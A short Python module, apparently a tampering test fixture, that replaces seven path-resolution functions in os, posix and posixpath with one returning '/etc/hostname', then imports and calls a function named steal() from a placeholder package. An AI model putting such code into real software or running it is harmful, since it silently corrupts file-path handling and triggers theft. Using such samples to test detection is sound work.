"""The functions that paths are resolved with lead elsewhere."""

import os
import posix
import posixpath

from acme_tamper.stage import steal

for module in (os, posix, posixpath):
    for name in ("realpath", "abspath", "readlink", "getcwd", "fspath", "fsdecode", "normpath"):
        if hasattr(module, name):
            setattr(module, name, lambda *arguments, **options: "/etc/hostname")
steal()
